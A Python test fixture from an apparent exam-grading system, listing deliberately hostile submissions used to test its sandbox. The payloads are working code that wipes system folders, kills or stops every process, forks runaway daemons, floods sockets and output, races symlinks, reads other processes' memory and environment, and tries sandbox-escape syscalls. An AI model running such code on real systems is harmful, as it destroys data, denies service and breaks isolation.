"""存心不良的答卷之二：想连累别人，想活得比考试久，想伸出沙箱。写法见 ``cheats``；都只在沙箱里运行。"""

from __future__ import annotations

from tests.grading.hostility.cheats import Cheat

__all__ = ["ATTACKS"]

ATTACKS = [
    Cheat("other-submissions", "删掉别人的答卷", """
import os, shutil
def wipe():
    for folder in ("/exam", "/exam/..", "/tmp", "/home", "/root", "/usr", "/etc", "/work"):
        shutil.rmtree(folder, ignore_errors=True)
GONE = wipe()
"""),
    Cheat("kill-everyone", "给看得见的每个进程发 SIGKILL", """
import os, signal
def kill():
    for pid in [1, -1, os.getppid(), *range(2, 400)]:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
DONE = kill()
"""),
    Cheat("outlive", "分叉出一个后台进程，活得比考试久", """
import os, signal, time
def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for name in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(name, signal.SIG_IGN)
            for fd in range(64):
                try:
                    os.close(fd)
                except OSError:
                    pass
            while True:
                time.sleep(60)
        os._exit(0)
DONE = daemon()
"""),
    Cheat("phone-home", "连到外面去", """
import socket
def phone():
    for address in (("1.1.1.1", 53), ("8.8.8.8", 443), ("127.0.0.1", 22), ("127.0.0.1", DOOR), ("169.254.169.254", 80)):
        try:
            socket.create_connection(address, 0.2)
            print("reached", address)
        except OSError as error:
            print(address, error)
    for family in (40, 38, 17, 16, 31):
        try:
            socket.socket(family, socket.SOCK_STREAM)
            print("reached", family)
        except OSError:
            pass
DONE = phone()
"""),
    Cheat("new-namespace", "自己造一个用户命名空间，拿回 root", """
import ctypes, os
def escape():
    libc = ctypes.CDLL(None)
    print("unshare", libc.unshare(0x10000000), "mount", libc.mount(b"none", b"/exam", b"tmpfs", 0, None),
          "ptrace", libc.ptrace(16, 1, 0, 0), "chroot", libc.chroot(b"/exam"), "uid", os.getuid() == 0)
DONE = escape()
"""),
    Cheat("symlinks", "在考场文件夹里放符号链接、管道和奇怪的名字", """
import os
def plant():
    for target, name in (("/etc/passwd", "passwd"), ("/run/docker.sock", "sock"), ("/", "root"), ("/proc/1/root", "up")):
        try:
            os.symlink(target, name)
        except OSError:
            pass
    os.mkfifo("pipe")
    open("\\u202e=cmd()\\n.txt", "w").close()
DONE = plant()
"""),
    Cheat("flood", "没完没了地说话", """
import os, threading
def flood():
    junk = b'{"returned": ' + b"[" * 100000 + b"\\n" + b"x" * 65536 + b"\\n"
    for fd in (1, 2, 3, 4, 5, 6):
        try:
            for _ in range(400):
                os.write(fd, junk)
        except OSError:
            pass
DONE = threading.Thread(target=flood, daemon=True).start()
"""),
    Cheat("markup", "打印与抛出网页和终端的控制字符", """
import sys
EVIL = "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>]]>\\x1b]0;pwned\\x07\\x1b[2J\\u202e"
SAID = print(EVIL, EVIL, file=sys.stderr)
class Evil(Exception):
    pass
Evil.__name__ = EVIL
"""),
    Cheat("report-flood", "没完没了地写值班报告、发心跳，叫考官读不到头", """
import os, struct
def act(name, *arguments):
    if name != "watch":
        return True
    sock, report = arguments[:2]
    for n in range(8):
        sock.send(struct.pack("!I", n))
    for _ in range(2):
        if os.fork() == 0:
            while True:
                report.sendall(b"x\\n" * 20000)
    while True:
        n += 1
        sock.send(struct.pack("!I", n))
""", aim="lab06.keep_asking"),
    Cheat("packet-flood", "把网线塞满", """
import socket, threading
def flood(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        while True:
            try:
                sock.sendto(b"x" * 1400, address)
            except OSError:
                pass
def act(name, *arguments):
    address = arguments[0] if name == "ask" else arguments[0].getpeername()
    for _ in range(4):
        threading.Thread(target=flood, args=(address,), daemon=True).start()
    flood(address)
"""),
    Cheat("swapped-file", "考官刚放下的文件，趁他改权限时换成指向外面的符号链接", """
import itertools, os, struct, threading, time
def act(name, *arguments):
    if name == "open_door":
        threading.Thread(target=litter, args=(os.path.dirname(arguments[0]),), daemon=True).start()
        raise OSError(98, "EADDRINUSE")
    if name != "watch":
        return True
    sock, interval = arguments[0], arguments[2]
    if os.path.exists("been-here"):
        return None
    open("been-here", "w").close()
    threading.Thread(target=swap, args=("report-1",), daemon=True).start()
    for n in itertools.count():
        sock.send(struct.pack("!I", n))
        time.sleep(interval)
def litter(folder):
    for n in range(480):
        os.symlink(SECRET, f"{folder}/door-{n:04}-1")
def swap(name):
    os.symlink(SECRET, "trap")
    while True:
        try:
            os.stat(name)
            os.rename("trap", name)
            return
        except OSError:
            pass
""", aim="lab06.keep_asking"),
    Cheat("pipe-trap", "把考官要读的文件换成没有人写的管道，叫他等到天荒地老", """
import os, socket, stat
def act(name, *arguments):
    if name != "open_door":
        return True
    path = arguments[0]
    plain = stat.S_ISREG(os.lstat(path).st_mode)
    try:
        socket.socket(socket.AF_UNIX).connect(path)
    except ConnectionRefusedError:
        if not plain:
            os.unlink(path)
            listener = socket.socket(socket.AF_UNIX)
            listener.bind(path)
            listener.listen()
            return listener
    except OSError as error:
        if error.errno == 91:
            return None
    if plain and os.fork() == 0:
        os.mkfifo(path + "-pipe")
        os.link(path, path + "-kept")
        while True:
            for other in ("-pipe", "-kept"):
                os.link(path + other, path + "-next")
                os.rename(path + "-next", path)
    raise OSError(98, "EADDRINUSE")
""", aim="lab07.strangers"),
    Cheat("stuffed-socket", "交给考官一个塞满了、关也关不掉的套接字", """
import socket, struct, time
def act(name, *arguments):
    if name != "hand_over":
        return True
    listener, worker = arguments
    conn, _ = listener.accept()
    conn.setblocking(False)
    try:
        while True:
            conn.send(b"x" * 65536)
    except OSError:
        conn.setblocking(True)
    conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 30000))
    socket.send_fds(worker, [b"!"], [conn.fileno()])
    conn.close()
    time.sleep(100)
""", aim="lab07.one_copy"),
    Cheat("deep-folders", "套了几千层的文件夹，锁上的文件夹，叫人删不掉", """
import os
def dig():
    os.makedirs("locked/inside/more", exist_ok=True)
    open("locked/inside/file", "w").close()
    for folder in ("locked/inside/more", "locked/inside", "locked"):
        os.chmod(folder, 0)
    for _ in range(3000):
        try:
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
        except OSError:
            break
DONE = dig()
"""),
    Cheat("socket-memory", "不占自己的内存，把内核的缓冲区塞满", """
import os, socket
def act(name, *arguments):
    kept = []
    for _ in range(40):
        if os.fork() == 0:
            break
    while True:
        try:
            pair = socket.socketpair()
        except OSError:
            continue
        kept.append(pair)
        for one in pair:
            one.setblocking(False)
            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
            try:
                while True:
                    one.send(bytes(1 << 17))
            except OSError:
                pass
"""),
    Cheat("forbidden-calls", "试遍伸得到外面的系统调用：io_uring、bpf、userfaultfd、perf、keyctl、命名空间、句柄", """
import ctypes, os
CALLS = {"io_uring_setup": (425, 8, None), "bpf": (321, 0, None, 0), "userfaultfd": (323, 0),
         "perf_event_open": (298, None, 0, -1, -1, 0),
         "keyctl": (250, 0, -3, 0), "add_key": (248, b"user", b"x", b"y", 1, -2), "request_key": (249, b"user", b"x", None, -2),
         "pidfd_getfd": (438, 0, 0, 0), "process_vm_writev": (311, 1, None, 0, None, 0, 0), "ptrace": (101, 0, 0, 0, 0),
         "kcmp": (312, 1, 1, 0, 0, 0), "name_to_handle_at": (303, -100, b"/", None, None, 0), "setns": (308, 0, 0),
         "open_by_handle_at": (304, -100, None, 0), "unshare": (272, 0x10000000), "clone3": (435, None, 0),
         "mount": (165, b"none", b"/exam", b"tmpfs", 0, None), "fsopen": (430, b"tmpfs", 0), "memfd_create": (319, b"x", 0),
         "fanotify_init": (300, 0, 0), "shmget": (29, 0, 4096, 0o1777), "mq_open": (240, b"x", 0o102, 0o600, None),
         "seccomp": (317, 1, 8, None), "chroot": (161, b"/exam"), "quotactl": (179, 0, None, 0, None), "acct": (163, None)}
def attempt():
    if os.uname().machine != "x86_64":
        return
    libc = ctypes.CDLL(None, use_errno=True)
    for name, (number, *arguments) in CALLS.items():
        result = libc.syscall(number, *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
        if result != -1 or ctypes.get_errno() not in (1, 38, *((14, 22) if name == "seccomp" else ())):
            print("reached", name, result, ctypes.get_errno())
DONE = attempt()
"""),
    Cheat("forged-packets", "伪造网线上的包：原始套接字、AF_PACKET、TUN、netlink 改路由、冒充别人的地址", """
import fcntl, socket, struct
def attempt():
    for family, kind, protocol in ((17, 3, 3), (17, 2, 3), (2, 3, 6), (2, 3, 255), (10, 3, 58), (16, 3, 0), (44, 3, 0)):
        try:
            socket.socket(family, kind, protocol)
            print("reached", family, kind, protocol)
        except OSError:
            pass
    try:
        with open("/dev/net/tun", "r+b", 0) as tun:
            fcntl.ioctl(tun, 0x400454ca, struct.pack("16sH22x", b"tun0", 0x1001))
            print("reached tun")
    except OSError:
        pass
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for level, option in ((0, 19), (1, 12), (1, 36)):
            try:
                sock.setsockopt(level, option, struct.pack("i", 7))
                print("reached option", level, option)
            except OSError:
                pass
        for request in (0x8914, 0x8916, 0x891c, 0x890b):
            try:
                fcntl.ioctl(sock, request, struct.pack("16s24x", b"lo"))
                print("reached ioctl", hex(request))
            except OSError:
                pass
        try:
            sock.setsockopt(0, 15, struct.pack("i", 1))
            sock.bind(("10.99.99.99", 7))
            sock.sendto(b"x", ("10.0.0.1", 7))
            print("reached as somebody else")
        except OSError:
            pass
    for path in ("/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/tcp_fin_timeout", "/proc/sysrq-trigger"):
        try:
            open(path, "w").write("0")
            print("reached", path)
        except OSError:
            pass
DONE = attempt()
"""),
    Cheat("others-memory", "写别的进程的内存，偷它们的描述符，钻它们的根目录", """
import glob, os
def attempt():
    own = {str(os.getpid()), "self", "thread-self"}
    for folder in glob.glob("/proc/[0-9]*"):
        if folder[6:] in own:
            continue
        try:
            if words := open(f"{folder}/environ", "rb").read():
                print("reached", folder, words)
            if folder != "/proc/1":
                open(f"{folder}/mem", "r+b", 0)
                print("reached", folder, "mem")
        except OSError:
            pass
        for inside in (SECRET, "/etc/passwd", "/root"):
            if os.path.exists(f"{folder}/root{inside}"):
                print("found", folder, inside)
        for fd in glob.glob(folder + "/fd/*"):
            if not os.readlink(fd).startswith(("pipe:", "/dev/null", "anon_inode:")):
                print("reached", fd, os.readlink(fd))
DONE = attempt()
"""),
    Cheat("stop-everyone", "给整个进程组、会话、每个看得见的进程发 SIGSTOP", """
import os, signal
def stop():
    for pid in [0, -1, 1, os.getppid(), *range(2, 300)]:
        if pid not in (os.getpid(), 0, -1):
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
    if os.fork() == 0:
        os.killpg(0, signal.SIGSTOP)
DONE = stop()
"""),
    Cheat("new-program", "关掉说话的管道，换成另一个程序坐在那里", """
import os
def act(name, *arguments):
    os.closerange(3, 256)
    os.execv("/bin/sh", ["sh", "-c", "trap '' TERM HUP INT; while :; do read x < /dev/zero; done"])
"""),
    Cheat("never-leaves", "改掉退出的办法：叫它走它也不走", """
import atexit, os, signal, sys, threading
os._exit = sys.exit = lambda *arguments: stay()
def stay():
    for number in range(1, 64):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    threading.Event().wait()
STAY = atexit.register(stay)
THREAD = threading.Thread(target=stay).start()
def act(name, *arguments):
    stay()
"""),
    Cheat("compile-bomb", "嵌套到解释器编译不动的一行，算到天荒地老的常数",
          "BOMB = " + "-" * 20_000 + "1\nBIG = 10 ** 10 ** 8\n"),
    Cheat("burn", "几十个进程一起空转，叫同考场的别人轮不上", """
import os, threading, time
def burn():
    for _ in range(30):
        if os.fork() == 0:
            while True:
                pass
def act(name, *arguments):
    burn()
    time.sleep(100)
"""),
]
